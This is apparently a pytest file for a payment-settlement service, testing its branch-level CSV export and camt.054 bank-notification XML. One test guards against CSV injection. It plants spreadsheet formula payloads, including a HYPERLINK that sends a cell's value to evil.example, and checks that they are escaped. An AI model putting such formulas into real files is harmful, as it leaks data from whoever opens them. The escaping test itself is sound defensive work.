"""A settlement's files: the CSV to the fen, and camt.054-like XML built only of elements a
real camt.054.001.08 notification has, adding up to the settlement."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

from defusedxml import ElementTree as SafeET
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from tests.settlement.test_settlement import DAY, account, group, settle  # noqa: F401 (the fixture)
from utilipay.clock import FrozenClock
from utilipay.common import spreadsheet
from utilipay.settlement import config, files, service
from utilipay.settlement.config import Mode

CAMT = Path(__file__).parents[1] / "data" / "recon"  # copies of ../shared/realdata/camt
NS = {"c": files.CAMT054}
# camt.054 names an account by IBAN or, for other numbers, Othr/Id (the sample has an IBAN)
OTHER_ACCOUNT = {"/Document/BkToCstmrDbtCdtNtfctn/Ntfctn/Acct/Id/Othr",
                 "/Document/BkToCstmrDbtCdtNtfctn/Ntfctn/Acct/Id/Othr/Id"}  # fmt: skip


def paths(element: ET.Element, prefix: str = "") -> set[str]:
    here = f"{prefix}/{element.tag.split('}')[1]}"
    found = {here}
    for child in element:
        found |= paths(child, here)
    return found


async def swept(engine: AsyncEngine, clock: FrozenClock) -> dict[str, object]:
    await account(engine, clock, "SZWATER", Mode.GROUP)
    assert (await settle(engine, clock, biller="SZWATER"))["SZWATER"].status == "SETTLED"
    async with engine.connect() as conn:
        return await service.one_settlement(conn, DAY, "SZWATER")


async def test_the_csv_has_a_line_per_branch_and_the_total(
    engine: AsyncEngine,
    clock: FrozenClock,
    group: None,  # noqa: F811
) -> None:
    settlement = await swept(engine, clock)
    head = "STL-SZWATER-20261122,62223892389554,SZWATER 收款户,中国工商银行北京分行"
    assert files.to_csv(settlement).decode() == (
        "payee,date,branch,branch_name,bills,bill_count,accruals,vouchers,gross,refunds,fees,"
        "commission,net,topups,reversed,reference,account_no,account_name,bank\n"
        f"SZWATER,2026-11-22,SZWATER_FT,深圳水务福田分公司,200.00,1,0.00,0.00,200.00,0.00,2.00,"
        f"0.00,198.00,0.00,0.00,{head}\n"
        f"SZWATER,2026-11-22,SZWATER_NS,深圳水务南山分公司,50.50,1,0.00,0.00,50.50,0.00,0.51,"
        f"0.00,49.99,0.00,0.00,{head}\n"
        f"SZWATER,2026-11-22,TOTAL,深圳水务集团,250.50,2,0.00,0.00,250.50,0.00,2.51,0.00,"
        f"247.99,0.00,0.00,{head}\n"
    )


async def test_names_that_a_spreadsheet_would_run_are_written_as_text_and_amounts_as_numbers(
    engine: AsyncEngine,
    clock: FrozenClock,
    group: None,  # noqa: F811
) -> None:
    """OWASP CSV injection: a free-text cell starting = + - @ gets a leading quote; a
    negative amount is a number, not a formula, and stays as it is."""
    async with engine.begin() as conn:
        await config.set_account(
            conn, clock, "SZWATER", account_no="62223892389554", mode=Mode.GROUP,
            account_name='=HYPERLINK("http://evil.example/?x="&A1,"查看")', bank="+SUM(1,2)",
            actor="test",
        )  # fmt: skip
        await conn.execute(
            text("UPDATE billers SET name = :n WHERE code = 'SZWATER_NS'"), {"n": "@SUM(A1:A9)"}
        )
    assert (await settle(engine, clock, biller="SZWATER"))["SZWATER"].status == "SETTLED"
    async with engine.connect() as conn:
        settlement = await service.one_settlement(conn, DAY, "SZWATER")
    settlement["lines"][1]["net"] = -1234  # more refunded and charged than taken in
    rows = list(csv.reader(io.StringIO(files.to_csv(settlement).decode())))
    header, lines = rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert header == list(files.CSV_COLUMNS)
    assert {line["account_name"] for line in lines} == {
        """'=HYPERLINK("http://evil.example/?x="&A1,"查看")"""
    }
    assert {line["bank"] for line in lines} == {"'+SUM(1,2)"}
    assert [line["branch_name"] for line in lines] == ["深圳水务福田分公司", "'@SUM(A1:A9)",
                                                      "深圳水务集团"]  # fmt: skip
    assert [line["net"] for line in lines] == ["198.00", "-12.34", "247.99"]
    assert spreadsheet.text_cell("-12.34") == "'-12.34"  # a number that came as text is text
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet.text_cell(f"{start}1+1").startswith("'")
    assert spreadsheet.text_cell("a=1") == "a=1"


async def test_the_xml_is_a_camt054_notification_that_adds_up(
    engine: AsyncEngine,
    clock: FrozenClock,
    group: None,  # noqa: F811
) -> None:
    settlement = await swept(engine, clock)
    data = files.to_camt054(settlement, datetime(2026, 11, 23, 2, tzinfo=UTC))
    assert data.startswith(b"<?xml version='1.0' encoding='utf-8'?>\n<Document xmlns=")
    root = SafeET.fromstring(data)  # well-formed
    sample = SafeET.parse(CAMT / "camt054.v8.xml").getroot()
    assert sample is not None
    assert root.tag == sample.tag == f"{{{files.CAMT054}}}Document"
    assert paths(root) - paths(sample) == OTHER_ACCOUNT

    note = root.find("c:BkToCstmrDbtCdtNtfctn/c:Ntfctn", NS)
    assert note is not None
    assert note.findtext("c:Id", namespaces=NS) == "STL-SZWATER-20261122"
    assert note.findtext("c:Acct/c:Id/c:Othr/c:Id", namespaces=NS) == "62223892389554"
    assert note.findtext("c:Acct/c:Svcr/c:FinInstnId/c:Nm", namespaces=NS) == "中国工商银行北京分行"
    entries = note.findall("c:Ntry", NS)
    assert [e.findtext("c:AddtlNtryInf", namespaces=NS) for e in entries] == [
        "SZWATER_FT", "SZWATER_NS"
    ]  # fmt: skip
    amounts = [e.find("c:Amt", NS) for e in entries]
    assert [(a.text, a.get("Ccy")) for a in amounts if a is not None] == [
        ("198.00", "CNY"), ("49.99", "CNY")
    ]  # fmt: skip
    assert sum(Decimal(a.text or "") for a in amounts if a is not None) * 100 == 24799
    for entry in entries:
        assert entry.findtext("c:CdtDbtInd", namespaces=NS) == "CRDT"
        assert entry.findtext("c:Sts/c:Cd", namespaces=NS) == "BOOK"
        assert entry.findtext("c:BookgDt/c:Dt", namespaces=NS) == "2026-11-22"
        refs = "c:NtryDtls/c:TxDtls/c:Refs/c:EndToEndId"
        assert entry.findtext(refs, namespaces=NS) == "STL-SZWATER-20261122"
    text = entries[1].findtext("c:NtryDtls/c:TxDtls/c:RmtInf/c:Ustrd", namespaces=NS)
    assert text == "gross 50.50; refunds 0.00; fees 0.51; commission 0.00; net 49.99"
    # the same settlement makes the same file
    assert files.to_camt054(settlement, datetime(2026, 11, 23, 2, tzinfo=UTC)) == data


def test_amounts_are_yuan_to_the_fen() -> None:
    assert [files.yuan(f) for f in (0, 5, 12345, -5, -100)] == [
        "0.00", "0.05", "123.45", "-0.05", "-1.00"
    ]  # fmt: skip
